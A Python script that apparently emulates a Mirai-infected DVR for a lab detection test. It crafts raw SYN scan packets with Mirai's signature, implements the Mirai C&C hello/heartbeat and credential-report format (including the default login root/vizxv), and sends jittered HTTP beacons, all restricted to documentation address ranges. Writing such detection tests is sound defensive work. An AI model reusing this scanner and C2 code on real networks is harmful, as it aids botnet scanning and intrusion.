#!/usr/bin/env python3
"""bot.py - what the lab's infected DVR does, bounded and aimed at lab
addresses only (tests/lab/record-detect.sh runs it inside a namespace).

  bot.py mirai-syn --count N --rate PPS --seed S PREFIX...
      TCP SYN probes the way Mirai's scanner sends them (raw socket, own IP
      header): destination port 23, or 2323 for about one probe in ten; one
      source port for the whole run; a random window; no TCP options; and the
      Mirai trait: sequence number = destination IPv4 address. Destinations
      are drawn (seeded) from the given lab prefixes; only the lab's
      documentation ranges 203.0.113.0/24 and 198.51.100.0/24 are accepted.
  bot.py cnc HOST PORT --hold SECS
      resolves HOST (through the lab DNS), connects, sends the Mirai bot
      hello (00 00 00 01, id length 0) and a two-byte heartbeat (00 00) every
      --heartbeat seconds, reads the echoes, closes after SECS.
  bot.py report IP PORT
      one Mirai-style "scan result" record to a report server: victim
      address, port, user and password (lab values).
  bot.py beacon URL --count N --period SECS --jitter SECS --seed S
      N HTTP GETs of URL (a new TCP connection each), one every SECS plus a
      seeded uniform jitter in [-jitter, +jitter]; prints each send time."""
import argparse
import ipaddress
import random
import socket
import struct
import sys
import time
import http.client
import urllib.parse

LAB_INTERNET = [ipaddress.ip_network("203.0.113.0/24"), ipaddress.ip_network("198.51.100.0/24")]


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mirai_syn(a):
    nets = [ipaddress.ip_network(p) for p in a.prefix]
    for n in nets:
        if not any(n.subnet_of(lab) for lab in LAB_INTERNET):
            sys.exit(f"bot: {n} is not inside the lab's internet ranges")
    if a.count > 2000 or a.rate > 2000:
        sys.exit("bot: count and rate are bounded to 2000")
    rnd = random.Random(a.seed)
    hosts = [h for n in nets for h in n.hosts()]
    src = ipaddress.ip_address(a.src)
    sport = rnd.randrange(1024, 65536)  # Mirai: one source port per scanner
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    gap = 1.0 / a.rate
    t0 = time.monotonic()
    for i in range(a.count):
        dst = rnd.choice(hosts)
        dport = 2323 if rnd.randrange(10) == 0 else 23
        seq = int(dst)  # the Mirai trait
        win = rnd.randrange(1, 65536)
        ipid = rnd.randrange(65536)
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, win, 0, 0)
        pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ipid, 0, 64, socket.IPPROTO_TCP, 0,
                         src.packed, dst.packed)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        s.sendto(ip + tcp, (str(dst), 0))
        delay = t0 + (i + 1) * gap - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(f"mirai-syn: {a.count} probes from {src}:{sport}")


def cnc(a):
    addr = socket.gethostbyname(a.host)
    if not any(ipaddress.ip_address(addr) in lab for lab in LAB_INTERNET):
        sys.exit(f"bot: {a.host} resolved to {addr}, outside the lab")
    s = socket.create_connection((addr, a.port), timeout=5)
    s.sendall(b"\x00\x00\x00\x01" + b"\x00")  # hello, then id_len 0 (Mirai attack/main.c)
    end = time.monotonic() + a.hold
    while time.monotonic() < end:
        time.sleep(min(a.heartbeat, max(0.0, end - time.monotonic())))
        if time.monotonic() >= end:
            break
        s.sendall(b"\x00\x00")
        s.recv(2)
    s.close()
    print(f"cnc: {a.host} = {addr}:{a.port}, held {a.hold}s")


def report(a):
    if not any(ipaddress.ip_address(a.ip) in lab for lab in LAB_INTERNET):
        sys.exit(f"bot: {a.ip} is outside the lab")
    victim = ipaddress.ip_address("203.0.113.144").packed
    user, pw = b"root", b"vizxv"
    rec = b"\x00" + victim + struct.pack("!H", 23) + bytes([len(user)]) + user + bytes([len(pw)]) + pw
    s = socket.create_connection((a.ip, a.port), timeout=5)
    s.sendall(rec)
    s.close()
    print(f"report: sent {len(rec)} bytes to {a.ip}:{a.port}")


def beacon(a):
    u = urllib.parse.urlsplit(a.url)
    if not any(ipaddress.ip_address(u.hostname) in lab for lab in LAB_INTERNET):
        sys.exit(f"bot: {u.hostname} is outside the lab")
    if a.count > 30:
        sys.exit("bot: at most 30 beacons")
    rnd = random.Random(a.seed)
    t0 = time.monotonic()
    due = 0.0
    for i in range(a.count):
        delay = t0 + due - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        c = http.client.HTTPConnection(u.hostname, u.port or 80, timeout=5)
        c.request("GET", f"{u.path}?id=dvr-6c1c71&n={i}", headers={"User-Agent": "Wget"})
        r = c.getresponse()
        r.read()
        c.close()
        print(f"beacon {i} at {time.monotonic() - t0:.3f}s: {r.status}")
        due += a.period + rnd.uniform(-a.jitter, a.jitter)


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    m = sub.add_parser("mirai-syn")
    m.add_argument("--src", required=True)
    m.add_argument("--count", type=int, default=200)
    m.add_argument("--rate", type=float, default=100)
    m.add_argument("--seed", type=int, default=1)
    m.add_argument("prefix", nargs="+")
    c = sub.add_parser("cnc")
    c.add_argument("host")
    c.add_argument("port", type=int)
    c.add_argument("--hold", type=float, default=10)
    c.add_argument("--heartbeat", type=float, default=7)
    r = sub.add_parser("report")
    r.add_argument("ip")
    r.add_argument("port", type=int)
    b = sub.add_parser("beacon")
    b.add_argument("url")
    b.add_argument("--count", type=int, default=12)
    b.add_argument("--period", type=float, default=2.0)
    b.add_argument("--jitter", type=float, default=0.05)
    b.add_argument("--seed", type=int, default=1)
    a = p.parse_args()
    {"mirai-syn": mirai_syn, "cnc": cnc, "report": report, "beacon": beacon}[a.cmd](a)
    return 0


if __name__ == "__main__":
    sys.exit(main())
